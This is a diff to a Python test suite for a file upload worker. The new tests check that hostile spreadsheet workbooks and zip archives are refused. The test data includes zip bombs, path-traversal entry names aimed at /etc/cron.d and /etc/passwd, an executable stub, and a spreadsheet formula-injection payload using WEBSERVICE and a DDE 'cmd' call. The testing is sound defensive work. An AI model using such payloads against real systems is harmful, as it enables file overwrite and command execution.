@@ -1,6 +1,7 @@
 """Files: sent to the interface, read by a worker in a process of its own, refused where they do harm."""
 
 import io
+import os
 import zipfile
 from collections.abc import Callable
 from pathlib import Path
@@ -12,13 +13,15 @@ from sqlalchemy import text
 
 from engine.changes import apply, decode
 from engine.errors import KnownError
-from engine.io import export_workbook
+from engine.io import export_csv, export_workbook
 from engine.io.samples import load_sample
 from engine.network import Network
+from engine.runs.snapshot import write_network
 from server_stub.services import Services
 from server_stub.settings import ServerSettings
 from server_stub.workers import reading
 from server_stub.workers.files import FileReader
+from server_stub.workers.unpacking import unpack
 from sync.server import Database
 from sync.server.blobs import Blobs
 from sync.server.database import SERVICE
@@ -49,8 +52,8 @@ def workbook(tmp_path_factory: pytest.TempPathFactory) -> bytes:
 def send(client: Client, people: dict[str, Person], project: str) -> Callable[..., Response]:
     """Sends a file as the editor."""
 
-    def sent(name: str, content: bytes) -> Response:
-        place = {"project": project, "name": name}
+    def sent(name: str, content: bytes, base: str = "") -> Response:
+        place = {"project": project, "name": name, "base": base}
         return client.post("/api/files", params=place, content=content, headers=people["editor"].headers)
 
     return sent
@@ -123,6 +126,10 @@ def test_that_what_is_no_table_is_refused_at_the_door(
 
 FAR = ROW + ROW.replace('"1"', '"1048576"').replace("A1", "XFD1048576")
 FAR_SHEET = workbook_parts({"a": FAR})["xl/worksheets/sheet1.xml"]
+SHARED = "<sst>" + "<si><t>" + "x" * 60_000_000 + "</t></si></sst>"
+CALL, VALUE = 'WEBSERVICE("http://127.0.0.1:9/"&amp;A2)', "=cmd|' /C calc'!A0"
+FORMULA = f'<row r="1"><c r="A1" t="str"><f>{CALL}</f><v>{VALUE}</v></c></row>'
+FORMULA_SHEET = workbook_parts({"a": FORMULA})["xl/worksheets/sheet1.xml"]
 # What is put into a workbook, and the code by which it is refused; none where it does no harm and is not looked at.
 HOSTILE = {
     "a zip bomb": ({"xl/media/zeros.bin": bytes(60_000_000)}, "file-unsafe"),
@@ -130,6 +137,8 @@ HOSTILE = {
     "a cell at the far corner": ({"xl/worksheets/sheet1.xml": FAR_SHEET}, "file-too-many-cells"),
     "names that lead out of the folder": ({"../../../../etc/cron.d/x": b"* * * * * root true"}, None),
     "a zip in a zip": ({"xl/embeddings/inner.zip": packed({"zeros": bytes(50_000_000)})}, None),
+    "strings that unpack to much": ({"xl/sharedStrings.xml": SHARED}, "file-unsafe"),
+    "a formula that calls": ({"xl/worksheets/sheet1.xml": FORMULA_SHEET}, None),
     "too many parts": ({f"xl/media/{number}.bin": b"" for number in range(2_001)}, "file-unsafe"),
 }
 
@@ -152,6 +161,87 @@ def test_that_a_hostile_workbook_is_refused_with_a_code_and_the_worker_lives(
     assert not found["has_change_set"]
     assert not Path("/etc/cron.d/x").exists()
     assert look(good).json()["status"] == "read"
+
+
+def csv_files(folder: Path) -> dict[str, bytes]:
+    export_csv(load_sample("infeasible-on-purpose"), folder)
+    return {f"our network/{path.name}": path.read_bytes() for path in folder.iterdir()}
+
+
+def test_that_a_zip_of_csv_files_becomes_the_change_set_of_its_network(
+    send: Callable[..., Response], look: Callable[..., Response], reader: FileReader, tmp_path: Path
+) -> None:
+    (tmp_path / "tables").mkdir()
+    parts = csv_files(tmp_path / "tables")
+    file = send("tables.zip", packed({**parts, "__MACOSX/._lanes.csv": b"\0\1"})).json()["id"]
+    reader.read_next()
+    assert look(file).json()["status"] == "read", look(file).json()
+    network = apply(Network.of({}), decode(look(file, "/change-set").content))
+    sample = load_sample("infeasible-on-purpose")
+    assert {name: len(network[name]) for name in sample.tables} == {name: len(sample[name]) for name in sample.tables}
+    assert list(reader._folder.iterdir()) == []
+
+
+DEMAND = b"customer,product,quantity\nAnn,Tea,12\n"
+HOSTILE_ARCHIVES = {
+    "a bomb": ({"demand.csv": DEMAND + bytes(60_000_000)}, "archive-unsafe"),
+    "a name that leads out": ({"demand.csv": DEMAND, "../../outside.csv": DEMAND}, "archive-unsafe"),
+    "a name of another system that leads out": ({"..\\..\\outside.csv": DEMAND}, "archive-unsafe"),
+    "an absolute name": ({"/etc/cron.d/outside.csv": DEMAND}, "archive-unsafe"),
+    "an archive": ({"demand.csv": DEMAND, "inner.zip": packed({"demand.csv": DEMAND})}, "archive-foreign"),
+    "an archive under the name of a text": ({"demand.csv": packed({"demand.csv": DEMAND})}, "archive-unsafe"),
+    "one name twice": ({"a/demand.csv": DEMAND, "b/Demand.csv": DEMAND}, "archive-unsafe"),
+    "a program": ({"demand.csv": DEMAND, "run.exe": b"MZ"}, "archive-foreign"),
+    "too many files": ({f"{number}.csv": b"" for number in range(2_001)}, "archive-unsafe"),
+    "nothing": ({}, "archive-empty"),
+}
+
+
+@pytest.mark.parametrize("kind", HOSTILE_ARCHIVES)
+def test_that_a_hostile_archive_is_refused_with_a_code_and_leaves_nothing(kind: str, tmp_path: Path) -> None:
+    parts, code = HOSTILE_ARCHIVES[kind]
+    source, folder = tmp_path / "tables.zip", tmp_path / "in" / "tables"
+    source.write_bytes(packed(parts))
+    folder.mkdir(parents=True)
+    with pytest.raises(KnownError) as met:
+        unpack(source, folder, reading.LIMITS)
+    assert met.value.code == code
+    assert list(tmp_path.rglob("outside*")) == []
+
+
+def test_that_a_cut_archive_is_refused_as_damaged_by_its_reader(tmp_path: Path) -> None:
+    source = tmp_path / "tables.zip"
+    source.write_bytes(packed({"demand.csv": os.urandom(100_000)})[:50_000])
+    with pytest.raises(KnownError) as met:
+        reading.read(source, tmp_path, lambda: True)
+    assert met.value.code == "file-damaged"
+
+
+def test_that_a_file_is_read_against_the_network_that_is_named(
+    send: Callable[..., Response], look: Callable[..., Response], reader: FileReader, project: str, tmp_path: Path
+) -> None:
+    sample = load_sample("infeasible-on-purpose")
+    write_network(sample, tmp_path / "base")
+    with (tmp_path / "base").open("rb") as frozen:
+        base = reader._blobs.put(project, frozen)
+    frame = sample["demand"]
+    key = frame[["customer", "product", "period"]].iloc[0]
+    content = f"customer,product,period,quantity\n{key['customer']},{key['product']},{key['period']},7654321\n"
+    file = send("demand.csv", content.encode(), base).json()["id"]
+    reader.read_next()
+    assert (look(file).json()["status"], look(file).json()["base"]) == ("read", base), look(file).json()
+    change = decode(look(file, "/change-set").content)
+    counts = change.counts()
+    assert list(counts) == ["demand"]
+    assert (counts["demand"].inserted, counts["demand"].updated, counts["demand"].deleted) == (0, 1, 0)
+    after = apply(sample, change)["demand"]
+    assert after.loc[after["quantity"] == 7654321, "customer"].tolist() == [key["customer"]]
+
+
+def test_that_a_network_that_the_project_does_not_have_is_refused_at_the_door(send: Callable[..., Response]) -> None:
+    answer = send("demand.csv", DEMAND, "0" * 64)
+    assert (answer.status_code, answer.json()["error"]["code"]) == (404, "blob-unknown")
+    assert send("demand.csv", DEMAND, "../../etc/passwd").status_code == 422
 
 
 def test_that_a_cut_workbook_is_refused_as_damaged(
